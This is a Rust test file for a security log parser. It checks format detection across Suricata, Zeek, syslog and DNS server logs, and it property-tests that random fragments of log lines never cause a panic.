#[test]
fn counts_add_up() {
    let mut reader = LogReader::new(LogFormat::Eve);
    for line in ["{}", "x", r#"{"dest_ip":"198.51.100.7"}"#] {
        let _ = reader.line(line.as_bytes(), read_at());
    }
    let counts = reader.counts();
    assert_eq!((counts.lines, counts.observations, counts.nothing, counts.bad), (3, 1, 1, 1));
}

#[test]
fn guesses() {
    for (lines, expected) in [
        (vec![r#"{"timestamp":"x","event_type":"dns"}"#], Some(LogFormat::Eve)),
        (vec![r#"{"ts":1.0,"uid":"C","id.orig_h":"10.0.0.1"}"#], Some(LogFormat::ZeekJson)),
        (vec!["", r#"{"@timestamp":"x"}"#], Some(LogFormat::JsonLines)),
        (vec!["#separator \\x09"], Some(LogFormat::ZeekTsv)),
        (vec![r#"203.0.113.9 - - [24/Nov/2026:08:12:00 +0500] "GET / HTTP/1.1" 200 12"#], Some(LogFormat::Access)),
        (vec!["[1795499520] unbound[8:0] info: 10.0.0.5 evil.example. A IN"], Some(LogFormat::Unbound)),
        (vec!["24-Nov-2026 05:52:00.123 client 10.0.0.5#5: query: evil.example IN A +"], Some(LogFormat::Bind)),
        (vec!["<38>Nov 24 05:52:00 srv sshd[1]: hello", "rubbish"], Some(LogFormat::Syslog)),
        (vec!["<38>1 2026-11-24T05:52:00Z srv a - - - x"], Some(LogFormat::Syslog)),
        (vec!["rubbish", ""], None),
        (vec![], None),
    ] {
        let bytes: Vec<&[u8]> = lines.iter().map(|l| l.as_bytes()).collect();
        assert_eq!(guess(&bytes), expected, "{lines:?}");
    }
}

#[test]
fn names_are_the_serde_names() {
    for format in LogFormat::ALL {
        assert_eq!(serde_json::to_string(&format).unwrap(), format!("\"{format}\""));
        assert_eq!(format.name().parse(), Ok(format));
    }
    assert!("Eve".parse::<LogFormat>().is_err());
}

mod never_panics {
    use super::*;
    use proptest::prelude::*;

    /// Pieces of real lines in any order, and rubbish between them.
    fn line() -> impl Strategy<Value = Vec<u8>> {
        let piece = prop_oneof![
            prop::sample::select(vec![
                "{",
                "}",
                "[",
                "]",
                "\"",
                "\\",
                ":",
                ",",
                "=",
                "\t",
                " ",
                "#fields\t",
                "#separator ",
                "\\x09",
                "\\x2",
                "ts",
                "query",
                "\"src_ip\":",
                "\"10.0.0.5\"",
                "\"dest_ip\":\"198.51.100.7\"",
                "\"dns\":{",
                "\"answers\":[",
                "\"rdata\":",
                "<34>",
                "<34>1 ",
                "Nov 24 05:52:00 ",
                "2026-11-24T05:52:00Z ",
                "host ",
                "named[1]: ",
                "unbound: ",
                "unbound[1:0] ",
                "client @0x7 ",
                "10.0.0.5#1 (x): ",
                "query: ",
                "info: ",
                "evil.example",
                " IN A",
                "[24/Nov/2026:05:52:00 +0000] ",
                "\"GET /%zz HTTP/1.1\" ",
                "\\u",
                "\\ud800",
                "SRC=",
                "DST=",
                "198.51.100.7",
                "é",
                "\u{202e}",
                "://",
                "http://",
                "%",
            ])
            .prop_map(|s| s.as_bytes().to_vec()),
            prop::collection::vec(any::<u8>(), 0..6),
        ];
        prop::collection::vec(piece, 0..24).prop_map(|p| p.concat())
    }

    proptest! {
        #[test]
        fn any_reader_any_lines(lines in prop::collection::vec(line(), 1..4), now: i64, zone: i32, year in prop::option::of(any::<i32>())) {
            for format in LogFormat::ALL {
                let mut reader = LogReader::new(format).with_zone_minutes(zone);
                if let Some(year) = year {
                    reader = reader.with_year(year);
                }
                for line in &lines {
                    if let LineOutcome::Observation(o) = reader.line(line, Timestamp(now)) {
                        for s in &o.seen {
                            // Whatever comes out is in normal form.
                            prop_assert!(pasban_kernel::Observable::from_stored(s.value.kind(), s.value.value()).is_ok(), "{:?}", s);
                        }
                        prop_assert!(!o.host.chars().any(char::is_control));
                        prop_assert!(o.seen.iter().all(|s| crate::outputs::is_plain(&s.field)));
                    }
                }
            }
            let lines: Vec<&[u8]> = lines.iter().map(Vec::as_slice).collect();
            let _ = guess(&lines);
        }
    }
}
